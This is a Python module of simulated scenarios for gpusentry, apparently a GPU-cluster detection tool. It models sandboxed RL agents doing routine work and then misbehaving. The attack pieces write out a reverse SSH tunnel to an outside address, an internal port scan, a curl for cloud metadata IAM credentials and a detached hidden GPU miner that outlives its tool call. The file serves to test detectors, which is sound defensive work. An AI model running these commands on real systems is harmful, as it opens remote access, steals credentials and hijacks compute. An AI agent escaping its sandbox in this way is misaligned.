"""Agentic-RL cluster scenarios: a trainer on every GPU, agents running tool calls in sandbox containers.

Each sandbox is a container with a tool server of a real framework (OpenHands' action execution server,
ROCK's rocklet, a Jupyter kernel), started the way those projects start it; each tool call is the
``bash -lc <cmd>`` the tool server spawns, with the programs it runs as its children. Before any attack
the agents do ordinary work (pip, git, pytest, curl to package indexes, ``grep -r xmrig .``, ``ssh -V``).
The attacks are those of the incident gpusentry exists for: a reverse SSH tunnel to an outside address,
probing of internal hosts and the cloud metadata service, and a Python GPU program that shares the
trainer's GPU with mining work on and off; alone, combined, and in intermittent episodes.
"""

from __future__ import annotations

import shlex
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from gpusentry.simulate import payloads as p
from gpusentry.simulate.host import HostSim
from gpusentry.simulate.workloads import GpuProgram, Miner, Notebook

PYTHON = "/opt/conda/bin/python3.10"
AGENT_PYTHON = "/usr/local/bin/python3"  # an allowed interpreter: what the agent's own GPU program runs as
PYPI = ("files.pythonhosted.org", ["151.101.0.223", "151.101.64.223"])
PYPI_INDEX = ("pypi.org", ["151.101.128.223"])
GITHUB = ("github.com", ["140.82.112.3"])
HF = ("huggingface.co", ["18.164.174.23"])
OUTSIDE_SSH = "198.51.100.23"
SSH_BANNER = b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6\r\n"

# (framework, how its tool server starts, its comm)
FRAMEWORKS = (
    ("openhands", "/openhands/micromamba/bin/micromamba run -n openhands poetry run python -u -m "
                  "openhands.runtime.action_execution_server 30000 --working-dir /workspace --username root "
                  "--user-id 0", "python"),
    ("rock", "/tmp/rocklet-venv/bin/python /tmp/rocklet-venv/bin/rocklet --port 8000", "rocklet"),
    ("jupyter", f"{PYTHON} -m ipykernel_launcher -f /root/.local/share/jupyter/runtime/kernel-7f3a.json", "python"),
)


@dataclass
class Sandbox:
    server: GpuProgram
    container: str
    framework: str


def https(sim: HostSim, t: float, site: tuple[str, list[str]], program: GpuProgram | None) -> None:
    name, ips = site
    sim.resolve(t, name, ips, program)
    sim.connect(t + 0.05, ips[0], 443, program=program, payload=p.tls_client_hello(name, sim.rng), sni=name,
                domain=name)


def sandbox(sim: HostSim, t: float, framework: str | None = None) -> Sandbox:
    """A sandbox container with its tool server, started by the container runtime."""
    choice = next((f for f in FRAMEWORKS if f[0] == framework), None) or FRAMEWORKS[sim.rng.randrange(len(FRAMEWORKS))]
    cid = f"{sim.rng.getrandbits(256):064x}"
    shim = sim.spawn(t, f"/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {cid}", user="root", cwd="/")
    server = sim.spawn(t + 1, choice[1], parent=shim.pid, user="root", container=cid, cwd="/workspace",
                       name=choice[2])
    return Sandbox(server, cid, choice[0])


def tool_call(sim: HostSim, sb: Sandbox, t: float, script: str) -> GpuProgram:
    """The shell a tool server starts for one tool call."""
    return sim.spawn(t, f"/bin/bash -lc {shlex.quote(script)}", args=["/bin/bash", "-lc", script],
                     parent=sb.server.pid, user="root", container=sb.container, executable="/bin/bash", name="bash",
                     cwd="/workspace")


def run_in(sim: HostSim, sb: Sandbox, call: GpuProgram, t: float, command_line: str, *,
           executable: str | None = None, name: str | None = None) -> GpuProgram:
    return sim.spawn(t, command_line, args=shlex.split(command_line), parent=call.pid, user="root",
                     container=sb.container, cwd="/workspace", executable=executable, name=name)


def ordinary_work(sim: HostSim, sb: Sandbox, start: float, end: float) -> None:
    """What agents do all day: install, clone, test, fetch, search, check versions."""
    t = start
    k = 0
    while t < end:
        kind = k % 6
        if kind == 0:
            call = tool_call(sim, sb, t, "pip install -q requests==2.32.3")
            pip = run_in(sim, sb, call, t + 0.1, f"{PYTHON} -m pip install -q requests==2.32.3", name="pip")
            https(sim, t + 0.3, PYPI_INDEX, pip)
            https(sim, t + 0.6, PYPI, pip)
        elif kind == 1:
            call = tool_call(sim, sb, t, "git clone -q https://github.com/psf/requests /workspace/requests")
            git = run_in(sim, sb, call, t + 0.1, "git clone -q https://github.com/psf/requests /workspace/requests")
            https(sim, t + 0.3, GITHUB, run_in(sim, sb, git, t + 0.2, "git-remote-https origin "
                                              "https://github.com/psf/requests", name="git-remote-http"))
        elif kind == 2:
            call = tool_call(sim, sb, t, "cd /workspace/requests && python -m pytest -q tests/test_utils.py")
            run_in(sim, sb, call, t + 0.1, f"{PYTHON} -m pytest -q tests/test_utils.py", name="python")
        elif kind == 3:
            call = tool_call(sim, sb, t, "curl -sSL https://pypi.org/simple/numpy/ | head -n 5")
            https(sim, t + 0.2, PYPI_INDEX, run_in(sim, sb, call, t + 0.1, "curl -sSL https://pypi.org/simple/numpy/"))
        elif kind == 4:
            call = tool_call(sim, sb, t, "grep -rn xmrig . | head")
            run_in(sim, sb, call, t + 0.1, "grep -rn xmrig .")
        else:
            call = tool_call(sim, sb, t, "ssh -V")
            run_in(sim, sb, call, t + 0.1, "ssh -V", executable="/usr/bin/ssh")
        k += 1
        t += sim.rng.uniform(45, 120)


def trainer(sim: HostSim, gpus: list[int] | range | None = None) -> None:
    from gpusentry.simulate.scenarios import _training

    _training(sim, 0, sim.duration_s, gpus, user="rl")


def attack_at(sim: HostSim) -> float:
    t = max(300.0, round(sim.duration_s * 0.25 / 10) * 10)
    return min(t, sim.duration_s * 0.6)


# ---------------------------------------------------------------------------- attack pieces


def reverse_tunnel(sim: HostSim, sb: Sandbox, t: float, until: float | None = None) -> None:
    script = f"ssh -fNR 2222:localhost:22 -o StrictHostKeyChecking=no -p 443 tunnel@{OUTSIDE_SSH}"
    call = tool_call(sim, sb, t, script)
    ssh = run_in(sim, sb, call, t + 0.1, script, executable="/usr/bin/ssh")
    sim.connect(t + 0.3, OUTSIDE_SSH, 443, program=ssh, payload=SSH_BANNER)
    if until is not None:
        sim.exit(until, ssh)


def probe(sim: HostSim, sb: Sandbox, t: float) -> None:
    call = tool_call(sim, sb, t, "python3 /tmp/.net/scan.py 10.0.0.0/24")
    scan = run_in(sim, sb, call, t + 0.1, f"{AGENT_PYTHON} /tmp/.net/scan.py 10.0.0.0/24",
                  executable=AGENT_PYTHON, name="python3")
    for i in range(36):
        sim.connect(t + 0.5 + i * 0.4, f"10.0.0.{i + 2}", (22, 2375, 6379, 10250)[i % 4], program=scan)
    meta = tool_call(sim, sb, t + 20, "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")
    curl = run_in(sim, sb, meta, t + 20.1, "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                  executable="/usr/bin/curl")
    sim.connect(t + 20.2, "169.254.169.254", 80, program=curl,
                payload=p.http_get("169.254.169.254", "/latest/meta-data/iam/security-credentials/"))


def gpu_miner(sim: HostSim, sb: Sandbox, t: float) -> None:
    """A Python program the agent starts detached, sharing the trainer's GPU 0 with mining, on and off."""
    call = tool_call(sim, sb, t, "nohup python3 /tmp/.cache/pt_ext.py >/dev/null 2>&1 &")
    prog = run_in(sim, sb, call, t + 0.1, f"{AGENT_PYTHON} /tmp/.cache/pt_ext.py", executable=AGENT_PYTHON,
                  name="python3")
    sim.exit(t + 0.2, call)  # the tool call returns; the program lives on, re-parented
    on = sim.rng.uniform(60, 150)
    sim.run(t + 3, sim.duration_s, [0], lambda r: Miner(sim.spec, r, prog, algorithm="kawpow", tuned=False,
                                                        share=0.4, on_s=on, off_s=on * sim.rng.uniform(0.8, 1.5)))


# ---------------------------------------------------------------------------- scenarios


def _attack(sim: HostSim, *steps: tuple[float, Callable[[HostSim, Sandbox, float], None]]) -> float:
    """The trainer, one sandbox at ordinary work, and attack steps (delay after the attack's start, piece)."""
    trainer(sim)
    sb = sandbox(sim, 20)
    t = attack_at(sim)
    ordinary_work(sim, sb, 40, sim.duration_s)
    for delay, step in steps:
        step(sim, sb, t + delay)
    return t


def agent_tunnel(sim: HostSim) -> float | None:
    return _attack(sim, (0, reverse_tunnel))


def agent_probe(sim: HostSim) -> float | None:
    return _attack(sim, (0, probe))


def agent_gpu_miner(sim: HostSim) -> float | None:
    return _attack(sim, (0, gpu_miner))


def agent_combined(sim: HostSim) -> float | None:
    """The incident itself: tunnel out, probe in, mine on the trainer's GPU, all from one sandbox."""
    return _attack(sim, (0, reverse_tunnel), (60, probe), (120, gpu_miner))


def agent_intermittent(sim: HostSim) -> float | None:
    """Violations that come and go across episodes: short-lived tunnels, each closed within two minutes."""
    trainer(sim)
    sb = sandbox(sim, 20)
    first = attack_at(sim)
    ordinary_work(sim, sb, 40, sim.duration_s)
    t = first
    while t < sim.duration_s - 60:
        reverse_tunnel(sim, sb, t, until=t + sim.rng.uniform(60, 120))
        t += sim.rng.uniform(700, 800)  # longer than resolve_after_s: each episode ends before the next
    return first


def agent_ordinary(sim: HostSim) -> float | None:
    """Benign: agents at ordinary work beside the trainer, and a researcher's notebook pulling a model."""
    trainer(sim)
    for k in range(2):
        sb = sandbox(sim, 20 + k * 5)
        ordinary_work(sim, sb, 40 + k * 20, sim.duration_s)
    lab = sim.spawn(10, f"{PYTHON} -m jupyterlab --ip=127.0.0.1 --port=8888", user="alice", name="jupyter-lab")
    kernel = sim.spawn(60, f"{PYTHON} -m ipykernel_launcher -f /home/alice/.local/share/jupyter/runtime/kernel-1.json",
                       parent=lab.pid, user="alice")
    https(sim, 90, HF, kernel)
    return None


def sandbox_cuda_tests(sim: HostSim) -> float | None:
    """Benign: a sandbox runs a CUDA test suite on the one GPU the trainer does not use."""
    gpus = list(sim.gpus)
    spare = gpus[-1]
    trainer(sim, gpus[:-1] if len(gpus) > 1 else [])
    sb = sandbox(sim, 20, "rock")
    ordinary_work(sim, sb, 40, sim.duration_s)
    call = tool_call(sim, sb, 300, "cd /workspace/kernels && python -m pytest -q tests/cuda")
    tests = run_in(sim, sb, call, 300.1, f"{PYTHON} -m pytest -q tests/cuda", name="python")
    sim.run(303, min(sim.duration_s, 900), [spare], partial(Notebook, sim.spec, program=tests))
    return None


def ops_tunnels(sim: HostSim) -> float | None:
    """Benign: ops users forward ports through the bastion, and autossh keeps a local forward up."""
    trainer(sim)
    bastion = "10.0.0.5"
    sshd = sim.spawn(5, "/usr/sbin/sshd -D", user="root", cwd="/")
    shell = sim.spawn(30, "-bash", parent=sshd.pid, executable="/usr/bin/bash", name="bash", user="ops")
    fwd = sim.spawn(60, f"ssh -N -L 5432:db.internal:5432 ops@{bastion}", parent=shell.pid, user="ops",
                    executable="/usr/bin/ssh")
    sim.connect(60.2, bastion, 22, program=fwd, payload=SSH_BANNER)
    auto = sim.spawn(90, f"autossh -M 0 -N -L 3000:grafana.internal:3000 ops@{bastion}", user="ops",
                     executable="/usr/bin/autossh")
    ssh = sim.spawn(90.1, f"/usr/bin/ssh -N -L 3000:grafana.internal:3000 ops@{bastion}", parent=auto.pid,
                    user="ops")
    sim.connect(90.3, bastion, 22, program=ssh, payload=SSH_BANNER)
    jump = sim.spawn(400, f"ssh -J ops@{bastion} ops@10.0.9.14 uptime", parent=shell.pid, user="ops",
                     executable="/usr/bin/ssh")
    sim.connect(400.2, bastion, 22, program=jump, payload=SSH_BANNER)
    return None


def prometheus_scrape(sim: HostSim) -> float | None:
    """Benign: Prometheus scraping fifty node exporters every 30 s, each scrape a new connection."""
    trainer(sim)
    prom = sim.spawn(0, "/bin/prometheus --config.file=/etc/prometheus/prometheus.yml", user="prometheus",
                     name="prometheus")
    targets = [f"10.1.{i // 25}.{i % 25 + 10}" for i in range(50)]
    t = 5.0
    while t < sim.duration_s:
        for i, ip in enumerate(targets):
            sim.connect(t + i * 0.05, ip, 9100, program=prom,
                        payload=p.http_get(f"{ip}:9100", "/metrics", "Prometheus/2.53.0"))
        t += 30
    return None


def inventory_nmap(sim: HostSim) -> float | None:
    """Benign: an inventory ping sweep by a service account from cron, every ten minutes."""
    trainer(sim)
    cron = sim.spawn(0, "/usr/sbin/cron -f", user="root", cwd="/")
    t = 120.0
    while t < sim.duration_s:
        sh = sim.spawn(t, "/bin/sh -c /opt/inventory/sweep.sh", parent=cron.pid, user="inventory",
                       executable="/bin/sh", name="sh")
        sim.spawn(t + 0.1, "nmap -sn -oG /var/lib/inventory/hosts.gnmap 10.0.0.0/24", parent=sh.pid, user="inventory",
                  executable="/usr/bin/nmap")
        t += 600
    return None
